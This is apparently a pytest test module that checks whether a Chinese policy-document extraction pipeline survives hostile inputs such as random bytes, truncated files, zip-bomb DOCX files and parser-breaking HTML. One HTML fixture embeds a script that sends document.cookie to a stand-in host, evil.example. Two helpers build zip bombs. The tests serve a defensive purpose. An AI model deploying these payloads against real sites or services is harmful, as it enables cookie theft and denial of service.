"""Hostile and broken inputs: every reader answers with documents or a reason, never a crash."""
from __future__ import annotations

import io
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pipeline.process import extract_records
from tests.conftest import SAMPLES as SAMPLES_DIR

REASONS = {"unsupported_format", "no_text_layer", "decode_error", "empty_after_cleaning", "not_a_document", "too_large"}
SUFFIXES = [".txt", ".md", ".html", ".pdf", ".docx", ".doc", ".wps", ".xlsx", ".rar", ""]


def outcome_ok(records: list[dict]) -> bool:
    return bool(records) and all(r.get("error") in REASONS or (r.get("doc_id") and not r.get("error")) for r in records)


@pytest.mark.parametrize("suffix", SUFFIXES)
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.binary(max_size=3000))
def test_random_bytes(tmp_path, suffix, data):
    p = tmp_path / f"x{suffix}"
    p.write_bytes(data)
    assert outcome_ok(extract_records(p))


MAGIC = {".pdf": b"%PDF-1.7\n", ".docx": b"PK\x03\x04", ".html": b"<html><body>"}


@pytest.mark.parametrize("suffix", list(MAGIC))
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.binary(max_size=3000))
def test_random_bytes_behind_a_format_signature(tmp_path, suffix, data):
    p = tmp_path / f"x{suffix}"
    p.write_bytes(MAGIC[suffix] + data)
    assert outcome_ok(extract_records(p))


@pytest.mark.parametrize("name", ["zibo_county_health_plan.pdf", "qingdao_elderly_care_notice.html",
                                  "jinan_primary_care_plan_traditional.txt"])
@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cut=st.floats(min_value=0.0, max_value=1.0))
def test_truncated_files(tmp_path, samples, name, cut):
    data = (samples / name).read_bytes()
    p = tmp_path / name
    p.write_bytes(data[: int(len(data) * cut)])
    assert outcome_ok(extract_records(p))


def test_docx_zip_bomb_is_refused(tmp_path):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("word/document.xml", "w") as f:
            chunk = b"\0" * (1 << 20)
            for _ in range(260):  # 260 MB inflated, a few hundred KB on disk
                f.write(chunk)
    p = tmp_path / "bomb.docx"
    p.write_bytes(buf.getvalue())
    assert p.stat().st_size < 2_000_000
    (rec,) = extract_records(p)
    assert rec["error"] == "too_large" and "inflates" in rec["detail"]


def test_deeply_nested_script_laden_html(tmp_path):
    body = "<div>" * 5000 + "<p>" + "某市关于加强安全生产工作的通知，各单位要认真落实。" * 5 + "</p>" + "</div>" * 5000
    html = ("<html><head><script>window.location='http://evil.example/'; document.write('注入内容注入内容')</script></head>"
            f"<body onload=\"alert('x')\"><iframe src='javascript:alert(1)'></iframe>{body}"
            "<script>fetch('http://evil.example/'+document.cookie)</script></body></html>")
    p = tmp_path / "nested.html"
    p.write_text(html, encoding="utf-8")
    recs = extract_records(p)
    assert outcome_ok(recs)
    text = "".join(r.get("title") or "" for r in recs)
    assert "注入内容" not in text and "evil" not in str(recs)


def _bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", b"\0" * (200 << 20))
    return buf.getvalue()


HOSTILE = {
    "bomb.docx": _bomb,
    "random.pdf": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40,
    "half.pdf": lambda: (SAMPLES_DIR / "zibo_county_health_plan.pdf").read_bytes()[:3000],
    "nul.txt": lambda: "通知".encode() + b"\0\0\0" * 100,
    "empty.txt": lambda: b"",
    "名字 with spaces & 'quotes'.html": lambda: b"<html><body><ul><li><a href='/a'>a</a></li></ul></body></html>",
    "legacy.doc": lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 1000,
}


def test_a_batch_of_hostile_inputs_keeps_what_was_stored(tmp_path, samples):
    """The hostile files of this module in one run beside the samples: each gets an error row naming it
    with a reason, the batch finishes, and the documents stored by an earlier run are all still there."""
    import shutil
    import sqlite3

    from pipeline.flows import process_flow

    inputs, out = tmp_path / "in", tmp_path / "out"
    shutil.copytree(samples, inputs)
    process_flow([str(inputs)], str(out))
    with sqlite3.connect(out / "policy.sqlite") as c:
        before = set(c.execute("SELECT doc_id FROM documents").fetchall())
    for name, make in HOSTILE.items():
        (inputs / name).write_bytes(make())
    process_flow([str(inputs)], str(out))
    with sqlite3.connect(out / "policy.sqlite") as c:
        after = set(c.execute("SELECT doc_id FROM documents").fetchall())
        errors = dict(c.execute("SELECT source, error FROM errors").fetchall())
    assert after == before
    for name in HOSTILE:
        (reason,) = [e for s, e in errors.items() if s.endswith(name)]
        assert reason in REASONS


def test_docx_with_a_huge_document_xml_under_the_zip_cap_is_refused_by_its_size(tmp_path):
    """190 MB of XML in a file of under a megabyte: python-docx would take gigabytes and minutes to parse it."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("word/document.xml", "w") as f:
            f.write(b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>')
            run = b"<w:p><w:r><w:t>" + "通知".encode() + b"</w:t></w:r></w:p>" * 1000
            for _ in range(190 * (1 << 20) // len(run)):
                f.write(run)
            f.write(b"</w:body></w:document>")
    p = tmp_path / "huge.docx"
    p.write_bytes(buf.getvalue())
    assert p.stat().st_size < 2_000_000
    (rec,) = extract_records(p)
    assert rec["error"] == "too_large" and rec["source"] == str(p)
    assert "word/document.xml inflates to 19" in rec["detail"] and "limit" in rec["detail"]


NOTICE = "\n".join(f"<p>{line}</p>" for line in (
    "某市卫生健康委员会关于加强基层医疗卫生服务能力建设的通知",
    "各区县卫生健康局：为进一步提升基层医疗卫生服务能力，现将有关事项通知如下。",
    "一、到2026年，每个乡镇卫生院至少配备全科医生3名，村卫生室覆盖率达到100%。",
    "二、各地要加强组织领导，落实工作责任，确保各项任务按期完成。",
    "某市卫生健康委员会 2025年3月1日"))


@pytest.mark.parametrize("name,html", [
    ("500,000 attributes", "<html><body><div " + " ".join(f'a{i}="x"' for i in range(500_000)) + f">目录</div>{NOTICE}</body></html>"),
    ("100,000 nested elements", "<html><body>" + "<div>" * 100_000 + NOTICE + "</div>" * 100_000 + "</body></html>"),
    ("a 50 MB attribute", f"<html><body><div data-x=\"{'a' * 50_000_000}\">目录</div>{NOTICE}</body></html>"),
])
def test_html_built_to_break_the_parser_keeps_its_notice(tmp_path, name, html):
    """libxml2 checks attributes in quadratic time, stops at 256 levels of nesting and at attribute values over
    10 MB: markup is bounded first, and the notice is read."""
    p = tmp_path / "page.html"
    p.write_text(html, encoding="utf-8")
    (rec,) = extract_records(p)
    assert not rec.get("error"), rec
    assert rec["title"].endswith("某市卫生健康委员会关于加强基层医疗卫生服务能力建设的通知")
    assert [c["value"] for c in rec["commitments"] if c["kind"] == "target"][:2] == [3, 100]


def test_one_document_longer_than_spacy_max_length_is_extracted_in_windows(tmp_path):
    """A single document of a few MB (over spaCy's 1,000,000 characters) gives records, not spaCy's E088."""
    para = "各地要加强基层医疗卫生队伍建设，到2026年村卫生室覆盖率达到95%以上，乡镇卫生院全科医生不少于3名。\n"
    text = "某市卫生健康委员会关于加强基层医疗卫生服务能力建设的通知\n" + para * (1_100_000 // len(para))
    p = tmp_path / "long.txt"
    p.write_text(text, encoding="utf-8")
    assert 1_000_000 < len(text) and p.stat().st_size < 16 * 1024 * 1024
    recs = extract_records(p)
    assert not any(r.get("error") for r in recs), recs[0]
    assert len(recs) >= 6 and all("split_long_document" in r["flags"] for r in recs)
    assert recs[0]["title"] == "某市卫生健康委员会关于加强基层医疗卫生服务能力建设的通知"
    assert recs[0]["start"] == 0 and recs[-1]["end"] == len(text)
    for a, b in zip(recs, recs[1:]):
        assert a["end"] <= b["start"]
    c = recs[-1]["commitments"][0]
    assert text[c["start"]:c["end"]].strip() == c["sentence"] and c["value"] == 95
